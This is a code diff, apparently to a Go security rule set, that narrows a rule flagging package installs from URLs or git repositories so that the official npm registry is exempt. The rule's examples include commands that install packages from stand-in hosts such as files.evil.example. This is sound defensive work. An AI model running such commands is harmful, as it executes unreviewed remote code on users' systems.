@@ -2820,11 +2820,11 @@ var defaultRules = [...]Rule{
 		Reason:   "installs a package from a URL or a git repository: its install scripts run code that was never reviewed",
 		Matcher: Matcher{
 			Command:   []string{"pip", "pip3", "pipx", "uv", "npm", "npx", "pnpm", "pnpx", "yarn", "bunx", "bun", "gem", "cargo", "composer", "poetry"},
-			ArgsRegex: []string{"^(git\\+|git://|https?://|ssh://|git@)", "^--git$", "^--index-url$", "^--extra-index-url$"},
+			ArgsRegex: []string{"^(git\\+|git://|http://|https://(?:(?:$|[^r])|r(?:$|[^e])|re(?:$|[^g])|reg(?:$|[^i])|regi(?:$|[^s])|regis(?:$|[^t])|regist(?:$|[^r])|registr(?:$|[^y])|registry(?:$|[^\\.])|registry\\.(?:$|[^n])|registry\\.n(?:$|[^p])|registry\\.np(?:$|[^m])|registry\\.npm(?:$|[^j])|registry\\.npmj(?:$|[^s])|registry\\.npmjs(?:$|[^\\.])|registry\\.npmjs\\.(?:$|[^o])|registry\\.npmjs\\.o(?:$|[^r])|registry\\.npmjs\\.or(?:$|[^g])|registry\\.npmjs\\.org[^/]|registry\\.npmjs\\.org/.)|ssh://|git@)", "^--git$", "^--index-url$", "^--extra-index-url$"},
 			c:         &defaultCells[210],
 		},
 		Examples:    []string{"pip install https://files.evil.example/pkg-1.0.tar.gz", "yarn add https://evil.example/pkg.tgz", "pip install --user git+https://github.com/someone/tool@v2.0", "cargo install --git https://example.com/x"},
-		NotExamples: []string{"pip install -r requirements.txt", "npm install", "npx prettier --check .", "npm install ./dep-1.0.0.tgz", "npx @openapitools/openapi-generator-cli generate -i openapi.yaml -g typescript-fetch -o src/client"},
+		NotExamples: []string{"pip install -r requirements.txt", "npm install", "npx prettier --check .", "npm install ./dep-1.0.0.tgz", "npx @openapitools/openapi-generator-cli generate -i openapi.yaml -g typescript-fetch -o src/client", "npm install --registry=https://registry.npmjs.org/ lodash"},
 	},
 	{
 		Origin:   LayerBuiltin,
